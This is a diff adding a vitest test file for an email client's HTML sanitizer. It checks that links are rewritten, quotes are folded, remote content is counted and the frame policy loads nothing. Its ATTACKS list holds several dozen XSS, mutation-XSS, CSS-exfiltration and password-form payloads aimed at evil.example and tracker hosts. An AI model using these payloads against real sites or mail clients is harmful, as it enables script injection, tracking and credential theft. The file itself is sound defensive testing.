@@ -1,0 +1,166 @@
+import { existsSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { clean, cleanStyle, deceives, FRAME_POLICY, frameDocument } from './sanitize';
+
+const words = { quoted: 'Show quoted text', goesTo: (host: string) => `goes to ${host}` };
+const cleaned = (html: string) => clean(html, { words });
+
+const SAFE_ELEMENTS =
+  /^(a|abbr|address|article|aside|b|bdi|bdo|big|blink|blockquote|body|br|caption|center|cite|code|col|colgroup|content|data|dd|decorator|del|details|dfn|dir|div|dl|dt|element|em|figcaption|figure|font|footer|h[1-6]|header|hgroup|hr|i|img|ins|kbd|label|li|main|mark|menu|menuitem|meter|nav|nobr|ol|p|pre|progress|q|rp|rt|ruby|s|samp|search|section|shadow|small|spacer|span|strike|strong|sub|summary|sup|table|tbody|td|tfoot|th|thead|time|tr|tt|u|ul|var|wbr)$/;
+
+// Everything that may be in the frame, looked at element by element.
+function complaints(html: string): string[] {
+  const body = new DOMParser().parseFromString(html, 'text/html').body;
+  const found: string[] = [];
+  for (const element of body.querySelectorAll('*')) {
+    const tag = element.tagName.toLowerCase();
+    if (element.namespaceURI !== 'http://www.w3.org/1999/xhtml') found.push(`namespace of ${tag}`);
+    if (!SAFE_ELEMENTS.test(tag)) found.push(`element ${tag}`);
+    for (const { name, value } of element.attributes) {
+      if (/^on/i.test(name)) found.push(`handler ${name}`);
+      if (/^(id|name|srcset|background|formaction|action|ping|is)$/.test(name))
+        found.push(`attribute ${name}`);
+      if (/url\s*\(|expression|@import|\\|-moz-binding|behavior/i.test(value) && name === 'style') {
+        found.push(`style ${value}`);
+      }
+      if (name === 'href' && !/^(https?:\/\/|mailto:|tel:)/i.test(value))
+        found.push(`link ${value}`);
+      if (
+        name === 'src' &&
+        !/^(blob:|data:image\/(png|gif|jpe?g|webp|avif|bmp)[;,])/i.test(value)
+      ) {
+        found.push(`picture ${value}`);
+      }
+    }
+  }
+  return found;
+}
+
+const ATTACKS = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<svg><style><img src=x onerror=alert(1)></style></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="java\tscript:alert(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="//evil.example/x">x</a>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<form action="https://evil.example"><input name=password><button formaction=x>go</button></form>',
+  '<base href="https://evil.example/"><a href="x">y</a>',
+  '<meta http-equiv=refresh content="0;url=https://evil.example">',
+  '<link rel=stylesheet href=https://evil.example/x.css>',
+  '<style>@import "https://evil.example/x.css"; a{background:url(https://evil.example)}</style>',
+  '<div style="background:url(https://evil.example/x)">x</div>',
+  '<div style="background:u\\72l(https://evil.example/x)">x</div>',
+  '<div style="background:/**/url/**/(https://evil.example/x)">x</div>',
+  '<div style="background-image:image-set(\'https://evil.example/x\' 1x)">x</div>',
+  '<div style="--x:url(https://evil.example);background:var(--x)">x</div>',
+  '<div style="position:fixed;inset:0;z-index:99">overlay</div>',
+  '<img src="https://tracker.example/p.gif">',
+  '<img srcset="https://tracker.example/p.gif 1x" src="data:image/png;base64,AA==">',
+  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
+  '<table background="https://tracker.example/x"><tr><td>x</td></tr></table>',
+  '<video poster="https://tracker.example/x"><source src="https://tracker.example/y"></video>',
+  '<img name="body"><img id="documentElement">',
+  '<object data="x"></object><embed src="x">',
+  '<template><script>alert(1)</script></template>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<textarea></textarea><img src=x onerror=alert(1)>',
+  '<a href="https://x.example" onclick="alert(1)" autofocus tabindex=1 contenteditable>x</a>',
+  '<x-frame is="y"></x-frame><button popovertarget=x>x</button>',
+];
+
+describe('THREAT1 hostile HTML', () => {
+  it.each(ATTACKS)('leaves nothing dangerous of %s', (attack) => {
+    expect(complaints(cleaned(attack).html)).toEqual([]);
+    expect(complaints(cleaned(`<div>before ${attack} after</div>`).html)).toEqual([]);
+  });
+
+  const data = process.env.HEARBACK_TEST_DATA ?? join(process.cwd(), '../../shared/data');
+  const vectors = join(data, 'html5sec/items.json');
+  it.skipIf(!existsSync(vectors))('leaves nothing dangerous of the html5sec vectors', () => {
+    const items = JSON.parse(readFileSync(vectors, 'utf8')) as { id: number; data: string }[];
+    const payloads = JSON.parse(
+      readFileSync(join(data, 'html5sec/payloads.json'), 'utf8'),
+    ) as Record<string, string>;
+    expect(items.length).toBeGreaterThan(100);
+    const bad = items.flatMap(({ id, data: template }) => {
+      const attack = template.replace(/%(\w+)%/g, (all, name) => payloads[name] ?? all);
+      return complaints(cleaned(attack).html).map((one) => `${id}: ${one}`);
+    });
+    expect(bad).toEqual([]);
+  });
+
+  it('is stable: cleaning again changes nothing', () => {
+    for (const attack of ATTACKS) {
+      const once = cleaned(attack).html;
+      expect(cleaned(once).html).toBe(once);
+    }
+  });
+});
+
+describe('THREAT2 remote content', () => {
+  it('counts what was left out', () => {
+    expect(
+      cleaned('<img src="https://t.example/p.gif"><p style="background:url(//t.example)">x</p>')
+        .remote,
+    ).toBe(2);
+    expect(cleaned('<p>nothing</p>').remote).toBe(0);
+  });
+  it('shows pictures that the message carries', () => {
+    const html = '<img src="cid:logo%40x"><img src="cid:other">';
+    expect(cleaned(html).contentIds).toEqual(['logo@x', 'other']);
+    const pictures = new Map([['logo@x', 'blob:http://localhost/1']]);
+    const shown = clean(html, { words, pictures });
+    expect(shown.html).toContain('src="blob:http://localhost/1"');
+    expect(shown.html).not.toContain('cid:');
+  });
+  it('keeps harmless declarations only', () => {
+    expect(cleanStyle('color: red; position: fixed; font-weight: bold').style).toBe(
+      'color: red; font-weight: bold',
+    );
+    expect(cleanStyle('background: URL(x)')).toEqual({ style: '', remote: true });
+    expect(cleanStyle('width: e/**/xpression(alert(1))').style).toBe('');
+  });
+  it('has a policy that loads nothing', () => {
+    const document = frameDocument('<p>x</p>', { dark: false, paper: false, lang: 'en' });
+    expect(document).toContain(FRAME_POLICY);
+    expect(FRAME_POLICY).toContain("default-src 'none'");
+    expect(FRAME_POLICY).not.toMatch(/script-src|https?:/);
+  });
+});
+
+describe('what a reader sees', () => {
+  it('opens links elsewhere, without a way back', () => {
+    const { html } = cleaned('<a href="https://x.example/a" target="_top">x</a>');
+    expect(html).toContain('target="_blank"');
+    expect(html).toContain('rel="noopener noreferrer"');
+  });
+  it('U3 marks links whose words name another place', () => {
+    expect(deceives('www.bank.example', 'https://evil.example/x')).toBe('evil.example');
+    expect(deceives('bank.example', 'https://login.bank.example')).toBeUndefined();
+    expect(deceives('our offer', 'https://evil.example')).toBeUndefined();
+    expect(cleaned('<a href="https://evil.example">bank.example</a>').html).toContain(
+      'goes to evil.example',
+    );
+  });
+  it('folds a quote at the end, and only there', () => {
+    const end = cleaned('<p>Yes.</p><div class="gmail_quote"><blockquote>old</blockquote></div>');
+    expect(end.html).toMatch(/<details><summary>Show quoted text<\/summary>.*old/);
+    const between = cleaned('<blockquote type="cite">question</blockquote><p>answer</p>');
+    expect(between.html).not.toContain('<details>');
+    const only = cleaned('<blockquote type="cite">all there is</blockquote>');
+    expect(only.html).not.toContain('<details>');
+  });
+  it('knows when a message brings its own colors', () => {
+    expect(cleaned('<p style="color:#333">x</p>').colored).toBe(true);
+    expect(cleaned('<p style="margin:0">x</p>').colored).toBe(false);
+  });
+  it('keeps the direction of the body', () => {
+    expect(cleaned('<html><body dir="rtl"><p>שלום</p></body></html>').html).toContain('dir="rtl"');
+  });
+});
